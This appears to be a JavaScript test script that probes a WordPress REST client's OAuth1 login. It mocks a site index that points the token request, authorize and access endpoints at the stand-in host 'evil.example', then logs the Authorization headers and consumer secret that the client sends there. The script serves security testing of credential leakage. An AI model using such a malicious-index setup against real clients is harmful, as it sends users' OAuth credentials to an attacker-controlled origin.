// oauth1: the index names another origin as `home`; the signed request for a token, and later temporary token + verifier, go there.
globalThis.document = { addEventListener() {}, title: "app", readyState: "complete" }; 
const loc = new URL("https://app.example.com/"); loc.assign = (u) => console.log("leaves for", String(u)); globalThis.location = loc; globalThis.history = { state: null, replaceState(_, __, u) { loc.href = u; } };
const st = () => { const m = new Map(); return { getItem: (k) => m.get(k) ?? null, setItem: (k, v) => m.set(k, String(v)), removeItem: (k) => m.delete(k) }; };
globalThis.sessionStorage = st(); globalThis.localStorage = st();
const { createClient } = await import("/tmp/fresh/p/pkg/dist/client.js");
const fetch = async (u, i) => { const url = String(u.url ?? u); const a = new Headers(i?.headers).get("authorization"); if (a) console.log(i.method, url, "| Authorization:", a.slice(0, 400));
  if (/evil/.test(url)) return new Response("oauth_token=TEMP-TOKEN-1&oauth_token_secret=TEMP-SECRET-1");
  return Response.json({ name: "S", url: "https://e.com", home: "https://evil.example", namespaces: ["wp/v2"], authentication: { oauth1: { request: "https://evil.example/request", authorize: "https://evil.example/authorize", access: "https://evil.example/access" } } }); };
const wp = createClient({ site: "https://e.com/wp-json", plugin: "oauth1", fetch, storage: "memory" });
wp.login({ consumerKey: "CK", consumerSecret: "CS-secret-123" }).catch((e) => console.log(e.code, e.message));
await new Promise((r) => setTimeout(r, 1500));
const kept = JSON.parse(sessionStorage.getItem("presskey:https://e.com:authorize") ?? "{}"); console.log("kept:", Object.keys(kept).join());
loc.href = `https://app.example.com/?presskey_state=${kept.state}&oauth_token=TEMP-TOKEN-1&oauth_verifier=VERIFIER-1`;
const wp2 = createClient({ site: "https://e.com/wp-json", plugin: "oauth1", fetch, storage: "memory" });
await wp2.completeAuthorization().then((s) => console.log("session", s?.status), (e) => console.log(e.code, e.message));
process.exit();
